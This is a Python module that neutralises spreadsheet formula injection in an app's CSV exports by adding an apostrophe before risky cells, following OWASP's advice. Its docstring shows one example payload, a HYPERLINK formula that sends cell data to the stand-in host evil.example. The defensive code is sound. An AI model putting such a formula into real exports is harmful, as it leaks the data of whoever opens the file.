"""Cells of the CSV files the app writes, made safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read as a formula by Excel, LibreOffice and Google Sheets, so a name an
editor typed such as ``=HYPERLINK("http://evil.example/?x="&A1,"Click")``
would run on the computer of whoever opens the export.  As OWASP advises
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell is
written with a leading apostrophe, which spreadsheets show as text and do not
evaluate.  A plain number (``-70.5``, ``+32``) is left as it is: it cannot be
a formula, and the coordinates of a town west of Greenwich must stay numbers
for Gephi and spreadsheets alike.

Every CSV the app writes goes through csv_text(); none calls csv.writer itself.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value) -> str:
    """Return ``value`` as the text of a CSV cell that no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Iterable]) -> str:
    """Return ``rows`` as CSV text with CRLF line ends (RFC 4180), every cell through safe_cell().

    CRLF rather than LF: Python's writer quotes a cell holding any character of the line
    terminator, so with LF alone a carriage return in a value went out unquoted and
    spreadsheets, which take a lone CR for a line end, split the row there.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return out.getvalue()
